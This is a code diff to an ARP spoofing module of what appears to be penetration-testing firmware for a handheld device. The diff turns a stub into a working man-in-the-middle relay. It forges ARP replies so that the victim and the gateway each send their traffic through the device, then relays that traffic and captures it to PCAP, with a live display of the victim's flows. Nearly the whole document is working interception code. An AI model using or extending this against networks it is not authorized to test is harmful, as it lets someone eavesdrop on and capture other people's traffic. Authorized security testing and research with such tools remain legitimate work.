@@ -32,15 +32,16 @@
 #include <lwip/sockets.h>
 #include <lwip/sys.h>
 #include <lwip/timeouts.h>
-#include <modules/wifi/sniffer.h> //use PCAP file saving functions
 #include <sstream>
 
 ARPSpoofer::ARPSpoofer(
-    const Host &host, IPAddress gateway, uint8_t _gatewayMAC[6], uint8_t mac[6], bool _mitm
+    const Host &host, IPAddress gateway, uint8_t _gatewayMAC[6], uint8_t mac[6], bool _mitm,
+    struct netif *_iface
 ) {
     mitm = _mitm;
+    iface = _iface ? _iface : netif_list;
     memcpy(gatewayMAC, _gatewayMAC, 6);
-    memcpy(mac, myMAC, 6);
+    memcpy(myMAC, mac, 6);
     setup(host, gateway);
 }
 
@@ -60,7 +61,7 @@ bool ARPSpoofer::arpPCAPfile() {
 
 void ARPSpoofer::setup(const Host &host, IPAddress gateway) {
     if (!arpPCAPfile()) Serial.println("Fail creating ARP Pcap file");
-    writeHeader(pcapFile); // write pcap header into the file
+    forwarder.begin(pcapFile); // write pcap header into the file
 
     for (int i = 0; i < 4; i++) victimIP[i] = host.ip[i];
     stringToMAC(host.mac.c_str(), victimMAC);
@@ -68,106 +69,94 @@ void ARPSpoofer::setup(const Host &host, IPAddress gateway) {
     // TODO: Use toBytes helper
     for (int i = 0; i < 4; i++) gatewayIP[i] = gateway[i];
 
-    drawMainBorderWithTitle("ARP Spoofing");
+    // Spoofed replies go out alternately, so each side is refreshed every 2 seconds
+    // Sends false ARP response data to the victim (Gataway IP now sas our MAC Address)
+    addARPFrame(victimIP, victimMAC, gatewayIP, myMAC);
+    // Sends false ARP response data to the Gateway (Victim IP now has our MAC Address)
+    addARPFrame(gatewayIP, gatewayMAC, victimIP, myMAC);
+
+    drawMainBorderWithTitle(mitm ? "ARP MITM" : "ARP Spoofing");
     padprintln("");
     padprintln("Single Target Attack.");
-
-    if (mitm) {
-        tft.setTextSize(FP);
-        // padprintln("Man in The middle Activated");
-        // padprintln("/BrucePCAP/ARP_session_" + String(nf) + ".pcap");
-        Serial.println("Still in development");
-    }
     padprintln("Tgt:" + host.mac);
     padprintln("Tgt: " + ipToString(victimIP));
     padprintln("GTW:" + macToString(gatewayMAC));
     padprintln("");
     padprintln("Press Any key to STOP.");
 
+    if (mitm && !forwarder.startRelay(iface, myMAC, victimIP, victimMAC, gatewayMAC)) {
+        displayError("MITM relay failed");
+        mitm = false;
+    }
+
     loop();
 }
 
+void ARPSpoofer::drawMitmStats() {
+    const MitmForwarder::Stats &st = forwarder.stats();
+    FlowEntry flows[3];
+    size_t total = 0;
+    size_t n = forwarder.topFlows(flows, 3, &total);
+
+    drawMainBorderWithTitle("ARP MITM");
+    padprintln("");
+    padprintln("Tgt: " + ipToString(victimIP) + "  Flows: " + String(total));
+    padprintln("Fwd: " + String(st.fwdPps) + " pkt/s  " + String(st.fwdBytes / 1024) + " KB");
+    padprintln(
+        "PCAP: " + String(st.writeBps / 1024) + " KB/s  drop " + String(forwarder.captureDropped()) +
+        (st.failed ? "  err " + String(st.failed) : "")
+    );
+    padprintln("");
+    for (size_t i = 0; i < n; i++) {
+        const FlowKey &k = flows[i].key;
+        // show the endpoint that isn't the victim, it's the interesting side
+        bool aIsVictim = memcmp(k.ipA, victimIP, 4) == 0;
+        const uint8_t *peer = aIsVictim ? k.ipB : k.ipA;
+        uint16_t port = aIsVictim ? k.portB : k.portA;
+        String line = String(FlowTable::protoName(k.proto)) + " " + ipToString(peer);
+        if (port) line += ":" + String(port);
+        padprintln(line + " " + String(flows[i].bytes / 1024) + "KB");
+    }
+    printFootnote("Press Any key to STOP.");
+}
+
 void ARPSpoofer::loop() {
+    if (!engine.start(1, 0, iface)) {
+        displayError("No interface found");
+        Serial.println("No interface found");
+        forwarder.end();
+        pcapFile.close();
+        return;
+    }
     long tmp = 0;
-    int count = 0;
     while (!check(AnyKeyPress)) {
-        if (tmp + 2000 < millis()) { // sends frames every 2 seconds
-            // Sends false ARP response data to the victim (Gataway IP now sas our MAC Address)
-            sendARPPacket(victimIP, victimMAC, gatewayIP, myMAC, pcapFile);
-
-            // Sends false ARP response data to the Gateway (Victim IP now has our MAC Address)
-            sendARPPacket(gatewayIP, gatewayMAC, victimIP, myMAC, pcapFile);
+        forwarder.poll();
+        if (tmp + 1000 < millis()) {
+            if (mitm) drawMitmStats();
+            else {
+                tft.drawRightString(
+                    "Spoofed " + String(engine.stats().sent / 2) + " times", tftWidth - 12, tftHeight - 16, 1
+                );
+            }
             tmp = millis();
-            count++;
-            tft.drawRightString("Spoofed " + String(count) + " times", tftWidth - 12, tftHeight - 16, 1);
         }
+        delay(20);
     }
-
-    if (mitm) {
-        // Configures Promiscuous mode
-        Serial.println("Promiscuous mode deactivated.");
-    }
+    engine.stop();
+    forwarder.stopRelay();
 
     // Restore ARP Table
-    sendARPPacket(victimIP, victimMAC, gatewayIP, gatewayMAC, pcapFile);
-    sendARPPacket(gatewayIP, gatewayMAC, victimIP, victimMAC, pcapFile);
+    engine.clearFrames();
+    engine.sendNow(addARPFrame(victimIP, victimMAC, gatewayIP, gatewayMAC));
+    engine.sendNow(addARPFrame(gatewayIP, gatewayMAC, victimIP, victimMAC));
 
-    pcapFile.flush();
+    forwarder.end();
     pcapFile.close();
 }
 
-// Function provided by @Fl1p, thank you brother!
-// Função para enviar pacotes ARP falsificados
-void ARPSpoofer::sendARPPacket(
-    uint8_t *targetIP, uint8_t *targetMAC, uint8_t *spoofedIP, uint8_t *spoofedMAC, File pcapFile
-) {
-    struct eth_hdr *ethhdr;
-    struct etharp_hdr *arphdr;
-    struct pbuf *p;
-    struct netif *netif;
-
-    // Obter interface de rede
-    netif = netif_list;
-    if (netif == NULL) {
-        Serial.println("Nenhuma interface de rede encontrada!");
-        return;
-    }
-
-    // Alocar pbuf para o pacote ARP
-    p = pbuf_alloc(PBUF_RAW, sizeof(struct eth_hdr) + sizeof(struct etharp_hdr), PBUF_RAM);
-    if (p == NULL) {
-        Serial.println("Falha ao alocar pbuf!");
-        return;
-    }
-
-    ethhdr = (struct eth_hdr *)p->payload;
-    arphdr = (struct etharp_hdr *)((u8_t *)p->payload + SIZEOF_ETH_HDR);
-
-    // Preencher cabeçalho Ethernet
-    MEMCPY(&ethhdr->dest, targetMAC, ETH_HWADDR_LEN); // MAC do alvo (vítima ou gateway)
-    MEMCPY(&ethhdr->src, spoofedMAC, ETH_HWADDR_LEN); // MAC do atacante (nosso)
-    ethhdr->type = PP_HTONS(ETHTYPE_ARP);
-
-    // Preencher cabeçalho ARP
-    arphdr->hwtype = PP_HTONS(1); // 1 é o código para Ethernet no campo hardware type (hwtype)
-    arphdr->proto = PP_HTONS(ETHTYPE_IP);
-    arphdr->hwlen = ETH_HWADDR_LEN;
-    arphdr->protolen = sizeof(ip4_addr_t);
-    arphdr->opcode = PP_HTONS(ARP_REPLY);
-
-    MEMCPY(&arphdr->shwaddr, spoofedMAC, ETH_HWADDR_LEN);    // MAC falsificado (gateway ou vítima)
-    MEMCPY(&arphdr->sipaddr, spoofedIP, sizeof(ip4_addr_t)); // IP falsificado (gateway ou vítima)
-    MEMCPY(&arphdr->dhwaddr, targetMAC, ETH_HWADDR_LEN);     // MAC real do alvo (vítima ou gateway)
-    MEMCPY(&arphdr->dipaddr, targetIP, sizeof(ip4_addr_t));  // IP real do alvo (vítima ou gateway)
-
-    // Enviar o pacote
-    netif->linkoutput(netif, p);
-    pbuf_free(p);
-    Serial.println("Pacote ARP enviado!");
-
-    // Capturar o pacote no arquivo PCAP
-    if (pcapFile) {
-        pcapFile.write((const uint8_t *)p->payload, p->tot_len); // don't know if it will work
-        pcapFile.flush();
-    }
+int ARPSpoofer::addARPFrame(uint8_t *targetIP, uint8_t *targetMAC, uint8_t *spoofedIP, uint8_t *spoofedMAC) {
+    uint8_t frame[frames::ARP_FRAME_LEN];
+    frames::buildArpReply(frame, sizeof(frame), spoofedMAC, spoofedIP, targetMAC, targetIP);
+    forwarder.record(frame, sizeof(frame));
+    return engine.addFrame(frame, sizeof(frame));
 }